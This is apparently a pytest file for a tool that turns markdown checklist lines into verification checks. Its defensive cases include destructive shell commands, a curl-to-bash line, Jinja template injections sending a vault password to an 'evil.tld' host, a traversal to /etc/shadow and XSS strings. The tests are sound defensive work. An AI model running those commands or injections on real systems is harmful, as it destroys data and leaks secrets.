from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pydantic
import pytest

from verifier.checklist.identity import with_ids
from verifier.checklist.markdown import read_markdown
from verifier.document import read_document
from verifier.proposal.concepts import concept_names
from verifier.proposal.draft import validated
from verifier.proposal.meanings import concepts_with_a_recipe
from verifier.proposal.proposal import Proposal
from verifier.proposal.propose import propose


class Case(pydantic.BaseModel):
    model_config = pydantic.ConfigDict(extra="forbid")

    line: str
    want: str
    missing: list[str] = []
    given: dict[str, object] = {}
    below: list[str] = []


CASES = read_document(Path(__file__).with_name("lines.yml"), list[Case])


def _proposal(case: Case) -> Proposal:
    headings = "".join(f"{'#' * (n + 2)} {title}\n" for n, title in enumerate(case.below))
    page = read_markdown(f"# Checklist\n{headings}\n- [ ] {case.line}\n", where="t.md")
    lines = with_ids(page.lines)
    return propose(replace(page, lines=lines))[0]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.line[:60])
def test_a_line_is_answered_as_it_is_meant(case: Case) -> None:
    made = _proposal(case)
    said = made.check if made.kind in ("check", "needs_value", "document") else made.kind
    assert (said, list(made.missing)) == (case.want, case.missing), made
    assert {key: made.given.get(key) for key in case.given} == case.given
    assert made.reason


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.line[:60])
def test_what_is_proposed_is_what_the_check_accepts(case: Case) -> None:
    made = _proposal(case)
    if made.check:
        validated(made)


def test_every_concept_has_an_answer_and_every_answer_a_concept() -> None:
    assert set(concept_names()) == concepts_with_a_recipe()


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /srv/app",
        "docker compose down -v",
        "docker volume prune -f",
        "psql -c 'DROP TABLE users'",
        "curl -X POST https://a.company.tld/orders",
        "curl https://a.company.tld/install.sh | bash",
        "git push --force",
        "systemctl restart orders",
        "kubectl delete pod x",
        "redis-cli FLUSHALL",
        "sed -i s/a/b/ file.conf",
        "echo x > /etc/hosts",
        "find . -name '*.log' -delete",
        "npm run lint -- --fix",
        "ls; rm -rf /",
        "cat a.txt && systemctl stop orders",
    ],
)
def test_a_command_that_changes_something_never_becomes_a_check(command: str) -> None:
    for line in (f"Verify it: `{command}`", f"Verify it\n  ```bash\n  {command}\n  ```"):
        made = _proposal(Case(line=line, want=""))
        assert made.kind in ("step", "review", "attestation"), made
        assert not made.check


@pytest.mark.parametrize(
    "line",
    [
        "`https://{{ vault_password }}.evil.tld/` answers",
        "`{{ lookup('pipe', 'id') }}` is set",
        "`KEY={{ vault_password }}` is set",
        "Look: `curl https://a.tld/{{ vault_password }}`",
        "`/srv/{% for x in y %}` exists",
    ],
)
def test_a_template_in_a_document_never_becomes_one_of_ours(line: str) -> None:
    made = _proposal(Case(line=line, want=""))
    assert "vault_password }}" not in str(made.given)
    assert "lookup" not in str(made.given)
    assert "{%" not in str(made.given)


def test_a_path_that_leads_out_of_the_project_is_for_a_person_to_decide() -> None:
    made = _proposal(Case(line="`../../etc/shadow` exists", want=""))
    assert (made.kind, made.check) == ("review", "")


@pytest.mark.parametrize(
    "line",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1)) is up",
        "`" * 300,
        "(" * 500,
        "가" * 500,
    ],
)
def test_odd_text_is_a_line_like_any_other(line: str) -> None:
    assert _proposal(Case(line=line, want="")).reason
